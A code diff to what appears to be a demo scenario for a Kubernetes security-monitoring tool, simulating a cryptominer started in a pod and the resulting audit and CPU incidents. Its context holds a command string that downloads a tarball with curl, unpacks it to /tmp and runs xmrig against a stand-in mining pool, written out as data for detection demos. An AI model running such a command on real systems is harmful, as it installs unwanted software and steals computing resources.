@@ -3,6 +3,7 @@ import { timeOf } from '../../shared/model/time.ts';
 import { SHOP } from '../world/seed.ts';
 import type { World } from '../world/world.ts';
 import { auditEntry } from './audit-entry.ts';
+import { busyFor } from './busy.ts';
 import { endingMissing, stepsMissing } from './ending.ts';
 import { cpuIncident, type Monitored } from './monitoring-incident.ts';
 import type { Scenario, ScenarioEvent } from './scenario.ts';
@@ -12,6 +13,8 @@ const NAMESPACE = 'shop';
 const APP = 'cart';
 /** An hour, in the quick motion of a demo. */
 const LATER_MS = 1000;
+/** In processors, of the three that the container may use. */
+const MINED = 2.96;
 
 const command =
   'curl -sL https://198.51.100.7/x.tgz | tar xz -C /tmp && /tmp/xmrig -o stratum+tcp://pool.example.com:3333 --donate-level 1';
@@ -30,6 +33,7 @@ const exec = (world: World, now: number) =>
 
 const busy = (world: World, now: number): Array<{ id: string; on: Monitored; startedAt: number }> => {
   const pod = podOf(world, NAMESPACE, ['app', APP]);
+  busyFor(world, pod, APP, MINED, now);
   const controller = { kind: 'Deployment', name: APP };
   return [
     {
@@ -57,7 +61,7 @@ export const cryptominer: Scenario = {
   title: 'A cryptocurrency miner in a pod',
   story: [
     'ana@example.com, whose laptop was stolen, downloads a miner into a pod of Deployment shop/cart and starts it there.',
-    'The API server writes an audit log entry. After an hour, which is a second here, Cloud Monitoring finds the CPU use of the pod and of its node flat at the limit.',
+    'The API server writes an audit log entry. After an hour, which is a second here, the CPU use of the pod is flat at its limit, that of its other replicas is not, and Cloud Monitoring opens an incident on the pod and on its node.',
   ],
   events: (world, now): ScenarioEvent[] => [
     { afterMs: 0, topic: 'audit-log', body: exec(world, now) },
